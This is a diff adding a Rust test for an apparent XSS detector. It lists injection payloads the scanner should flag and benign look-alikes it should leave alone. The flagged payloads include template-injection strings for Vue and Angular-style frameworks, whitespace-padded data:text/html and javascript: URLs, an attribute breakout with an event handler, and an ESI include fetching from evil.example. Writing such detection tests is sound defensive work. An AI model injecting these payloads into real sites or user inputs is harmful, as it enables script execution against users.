@@ -549,3 +549,31 @@ fn finds_commands_behind_a_string_that_the_value_closes_and_on_a_line_of_their_o
         assert_eq!(rule_of(value), None, "{value}");
     }
 }
+
+#[test]
+fn finds_script_that_frameworks_run_and_urls_whose_type_a_browser_trims() {
+    assert_found(
+        Class::Xss,
+        &[
+            "<p v-if=\"$emit.constructor(`f(7)`)()\">",
+            "<p :a=\"a.constructor('f(7)')()\">",
+            "{{-function(){this.alert(7)}()}}",
+            "{{a.b.c.alert(7)}}",
+            "data:text/html                                                                              ,%3Cb%3E",
+            "data:text/xsl;base64,PGI+",
+            "x href= javascript:f(7)",
+            "\" onwebkitfullscreenerror=f(7) a=\"",
+            "<esi:include src=//evil.example/>",
+        ],
+    );
+    for value in [
+        "this.constructor('a (b)')",
+        "super.constructor(\"a\"); b()",
+        "{{ alert }} (7)",
+        "see the data: text/html   and more, or less",
+        "said= javascript (it)",
+        "<essay:part a=b>",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
